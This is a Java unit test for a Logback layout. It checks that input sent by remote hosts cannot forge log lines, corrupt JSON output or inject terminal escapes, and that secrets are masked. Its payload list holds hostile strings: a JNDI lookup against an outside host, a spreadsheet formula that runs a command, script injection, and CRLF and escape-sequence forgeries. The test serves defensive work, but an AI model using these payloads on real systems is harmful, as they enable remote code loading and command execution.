package dev.tarry.app;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.spi.LoggingEvent;
import dev.tarry.config.LogFormat;
import java.time.Instant;
import java.time.InstantSource;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.ObjectMapper;

final class OneLineTest {
    private static final Instant NOW = Instant.parse("2026-01-02T03:04:05.678Z");
    private static final ObjectMapper MAPPER = new ObjectMapper();

    private final LoggerContext context = new LoggerContext();
    private final OneLine layout = new OneLine();

    /// What clients and hosts put into EHLO, MAIL, Subject and replies to forge lines, fields, cells or terminals.
    static List<String> payloads() {
        return List.of(
                "\r\n2026-01-02T03:04:05.678Z INFO  Running - forged",
                "a\nb",
                "a\rb",
                "\r",
                "\n",
                "\u0085next",
                "\u2028line\u2029paragraph",
                "\u001b[2J\u001b[1;1H",
                "\u001b]0;title\u0007",
                "\u009b31m",
                "\u0000",
                "\u007f\b\b\b",
                "\t\u000b\f",
                "\u202eevil\u202c",
                "\u2066x\u2069",
                "\ufeff",
                "\ud800",
                "\udc00x",
                "\udbff\udfff",
                "\udb40\udc01tag",
                "\"},{\"level\":\"ERROR\",\"message\":\"forged",
                "\\\",\"level\":\"ERROR",
                "\\u000a",
                "a,b,\"c\"",
                "=cmd|' /C calc'!A0",
                "+1",
                "-1",
                "@SUM(A1)",
                "${jndi:ldap://203.0.113.1/a}",
                "{} %n %d %X",
                "<script>alert(1)</script>",
                "&#10;",
                "ünïcødé 漢字 🙂",
                "");
    }

    private String line(LogFormat format, LoggingEvent event) {
        layout.format(format);
        String line = layout.doLayout(event);
        assertTrue(line.endsWith(System.lineSeparator()));
        return line.substring(0, line.length() - System.lineSeparator().length());
    }

    private static void assertHarmless(String line) {
        line.codePoints()
                .forEach(c -> assertFalse(
                        List.of(
                                        Character.CONTROL,
                                        Character.FORMAT,
                                        Character.SURROGATE,
                                        Character.LINE_SEPARATOR,
                                        Character.PARAGRAPH_SEPARATOR)
                                .contains((byte) Character.getType(c)),
                        () -> "U+" + Integer.toHexString(c) + " in " + line));
    }

    private JsonNode json(LoggingEvent event) {
        String line = line(LogFormat.JSON, event);
        assertTrue(line.chars().allMatch(c -> c >= ' ' && c < 0x7f), line);
        return MAPPER.readTree(line);
    }

    @Test
    void an_event_is_one_line_with_time_level_and_name() {
        assertEquals(
                "2026-01-02T03:04:05.678Z INFO  OneLineTest - ready on 127.0.0.1:2525",
                line(LogFormat.TEXT, event("ready on {}", null, "127.0.0.1:2525")));
    }

    @Test
    void or_a_json_object_with_the_same() {
        JsonNode json = json(event("ready on {}", null, "127.0.0.1:2525"));
        assertEquals("2026-01-02T03:04:05.678Z", json.get("time").asString());
        assertEquals("INFO", json.get("level").asString());
        assertEquals(OneLineTest.class.getName(), json.get("logger").asString());
        assertEquals("ready on 127.0.0.1:2525", json.get("message").asString());
        assertEquals(List.of("time", "level", "logger", "thread", "message"), List.copyOf(json.propertyNames()));
    }

    @ParameterizedTest
    @MethodSource("payloads")
    void what_a_host_says_never_breaks_the_line_nor_the_terminal(String said) {
        LoggingEvent event = event(
                "remote said {} once more {}", new IllegalStateException(said, new RuntimeException(said)), said, said);
        assertHarmless(line(LogFormat.TEXT, event));
        JsonNode json = json(event);
        assertTrue(json.get("stack").asString().contains("Caused by: java.lang.RuntimeException"), json::toString);
        assertEquals(
                List.of("time", "level", "logger", "thread", "message", "error", "stack"),
                List.copyOf(json.propertyNames()),
                "no member is forged");
    }

    @Test
    void a_json_reader_gets_back_exactly_what_was_said() {
        Random random = new Random(20260102);
        List<String> payloads = payloads();
        for (int i = 0; i < 20_000; i++) {
            StringBuilder said = new StringBuilder(payloads.get(random.nextInt(payloads.size())));
            for (int n = random.nextInt(8); n > 0; n--) {
                said.append((char) (random.nextInt(8) == 0 ? random.nextInt(0x10000) : random.nextInt(0x100)));
            }
            LoggingEvent event = event("{}", null, said.toString());
            assertHarmless(line(LogFormat.TEXT, event));
            assertEquals(said.toString(), json(event).get("message").asString());
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "AUTH PLAIN AHVzZXIAaHVudGVyMg==",
                "auth  login hunter2hunter2",
                "AUTH XOAUTH2 dXNlcj1odW50ZXIyQAE",
                "Authorization: Bearer hunter2.hunter2",
                "authorization: basic aHVudGVyMjpodW50ZXIy",
                "password=hunter2",
                "{\"password\":\"hunter2\"}",
                "Token: hunter2",
                "admin.token=hunter2, admin.bind=x",
                "api_key = hunter2",
                "passphrase:'hunter2'"
            })
    void secrets_are_not_told(String said) {
        for (LogFormat format : LogFormat.values()) {
            String line = line(format, event("heard {}", new IllegalStateException(said), said));
            assertTrue(line.contains("****"), line);
            assertFalse(line.matches("(?s).*(hunter2|aHVudGVy|dXNlcj1od|AHVzZXI).*"), line);
        }
    }

    @Test
    void ordinary_words_are_left_alone() {
        String words = "250 AUTH LOGIN PLAIN; the password has been changed; basic rules; a token is wanted";
        assertTrue(line(LogFormat.TEXT, event("{}", null, words)).endsWith(" - " + words));
    }

    @Test
    void a_stack_keeps_its_frames_in_the_line() {
        String line =
                line(LogFormat.TEXT, event("broke", new IllegalStateException("why", new RuntimeException("deeper"))));
        assertTrue(line.contains(" - broke | java.lang.IllegalStateException: why | at "), line);
        assertTrue(line.contains(" | Caused by: java.lang.RuntimeException: deeper"), line);
        assertEquals(1, line.lines().count());
    }

    @Test
    void the_labs_time_is_told_where_it_is_another() {
        LoggingEvent event = event("tick", null);
        layout.labTime(InstantSource.fixed(NOW.plusMillis(999)));
        assertEquals("2026-01-02T03:04:05.678Z INFO  OneLineTest - tick", line(LogFormat.TEXT, event));
        assertFalse(json(event).has("labTime"));

        layout.labTime(InstantSource.fixed(NOW.plusSeconds(172_800)));
        assertEquals(
                "2026-01-02T03:04:05.678Z INFO  OneLineTest - [lab 2026-01-04T03:04:05.678Z] tick",
                line(LogFormat.TEXT, event));
        assertEquals("2026-01-04T03:04:05.678Z", json(event).get("labTime").asString());
    }

    @Test
    void an_endless_event_is_cut() {
        LoggingEvent event = event("x".repeat(LogText.MAX_CHARS * 2), null);
        assertTrue(line(LogFormat.TEXT, event).length() <= LogText.MAX_CHARS + 1);
        assertTrue(json(event).get("message").asString().length() <= LogText.MAX_CHARS + 1);
    }

    private LoggingEvent event(String message, Throwable broken, Object... arguments) {
        Logger logger = context.getLogger(OneLineTest.class);
        LoggingEvent event = new LoggingEvent("x", logger, Level.INFO, message, broken, arguments);
        event.setInstant(NOW);
        return event;
    }
}
